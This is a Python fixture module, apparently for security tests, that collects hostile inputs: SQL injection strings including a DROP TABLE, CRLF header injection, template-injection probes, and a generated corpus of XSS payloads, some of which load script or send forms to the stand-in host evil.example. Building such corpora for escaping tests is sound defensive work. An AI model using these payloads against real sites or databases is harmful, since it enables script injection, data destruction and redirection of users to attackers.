"""What people type by accident, and what others type on purpose."""

from __future__ import annotations

from itertools import product

BAD_TEXTS = (
    "\0",
    "a\0b",
    "\ud800",
    "\udfff\ud800x",
    "\u202e\u2066gnp.exe\u2069",
    "🙂" * 1_000,
    "👩‍👩‍👧‍👦" * 300,
    "a" + "\u0301" * 2_000,
    "\r\nSet-Cookie: s=1\r\n\r\n<html>",
    "%0d%0aLocation:%20https://evil.example",
    "\x1b[31m\x07\x08",
    "\ufeff\u200b\u2060",
    "\x85\u2028\u2029",
    "9" * 400,
    "-1e999",
    "NaN",
    "' OR 1=1 --",
    "'; DROP TABLE cases; --",
    "{{ 7 * 7 }}{% raw %}",
    "{name} {0} %s %(x)s",
    "x" * 20_000,
    "",
    " \t\n ",
)

_HANDLERS = ("onerror", "onload", "onfocus", "onmouseover", "onanimationstart", "ontoggle", "onpointerenter")
_TAGS = ("img src=x", "svg", "body", "details open", "input autofocus", "video src=x", "iframe", "math", "a")
_BREAKS = ("", '"', "'", '">', "'>", "-->", "</textarea>", "</title>", "</bdi>", "]]>")
_WHOLE = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><button>",
    "<style>*{background:url(//evil.example)}</style>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "**<b onclick=alert(1)>x</b>**",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "＜script＞alert(1)＜/script＞",
    "<\0script>alert(1)</script>",
    "<img\x0bsrc=x\x0conerror=alert(1)>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
)


def xss_corpus() -> tuple[str, ...]:
    """Two hundred and more texts that would be markup wherever one of them was not escaped."""
    made = [
        f"{close}<{tag} {handler}=alert(1)>"
        for close, tag, handler in product(_BREAKS, _TAGS, _HANDLERS)
        if (len(close) + len(tag) + len(handler)) % 3 == 0
    ]
    attributes = [
        f"{close} {handler}=alert(1) x={close}" for close, handler in product(_BREAKS[1:3], _HANDLERS)
    ]
    return (*_WHOLE, *attributes, *made)
